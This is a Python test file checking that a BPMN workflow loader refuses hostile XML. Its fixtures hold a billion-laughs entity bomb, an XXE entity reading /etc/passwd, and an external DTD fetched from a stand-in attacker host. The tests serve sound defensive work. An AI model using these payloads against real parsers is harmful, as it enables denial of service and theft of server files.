"""Hostile or broken XML is refused with a clear DefinitionInvalid, never expanded or fetched."""

from __future__ import annotations

import time

import pytest
from lxml import etree

from procflow.model.bpmn import MAX_BPMN_BYTES
from tests.bpmn.checks import problems_of
from tests.bpmn.documents import REVIEW

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D">
  <bpmn:process id="P" name="&lol9;" />
</bpmn:definitions>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D">
  <bpmn:process id="P"><bpmn:documentation>&secret;</bpmn:documentation></bpmn:process>
</bpmn:definitions>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D" />
"""


@pytest.mark.parametrize(
    "data", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["laughs", "xxe", "dtd"]
)
def test_doctype_is_refused(data: bytes) -> None:
    [problem] = problems_of(data)
    assert "DOCTYPE" in problem.message
    assert "root:" not in problem.message


def test_doctype_in_utf16_is_refused_after_parsing() -> None:
    data = EXTERNAL_ENTITY.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
    [problem] = problems_of(data.encode("utf-16"))
    assert "DOCTYPE" in problem.message


def test_file_over_the_limit_is_refused_before_parsing(monkeypatch: pytest.MonkeyPatch) -> None:
    def no_parsing(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("parsed a file over the size limit")

    monkeypatch.setattr(etree, "fromstring", no_parsing)
    data = REVIEW + b" " * (50 * 1024 * 1024)
    started = time.perf_counter()
    [problem] = problems_of(data)
    assert time.perf_counter() - started < 1.0
    assert f"limited to {MAX_BPMN_BYTES} bytes" in problem.message


@pytest.mark.parametrize(
    "data",
    [b"", b"name: loans\nnodes: []\n", b"\x00\xff\xfe garbage", b"<bpmn:definitions>"],
    ids=["empty", "yaml", "binary", "unclosed"],
)
def test_not_xml_at_all(data: bytes) -> None:
    [problem] = problems_of(data)
    assert problem.message.startswith("not well-formed XML")


def test_other_xml_vocabulary_is_refused() -> None:
    [problem] = problems_of(b"<html><body>hello</body></html>")
    assert "namespace '(none)'" in problem.message


def test_absurdly_deep_nesting_is_refused() -> None:
    depth = 5000
    data = REVIEW.replace(
        b"</bpmn:process>",
        b"<a>" * depth + b"</a>" * depth + b"</bpmn:process>",
    )
    [problem] = problems_of(data)
    assert problem.message.startswith("not well-formed XML")
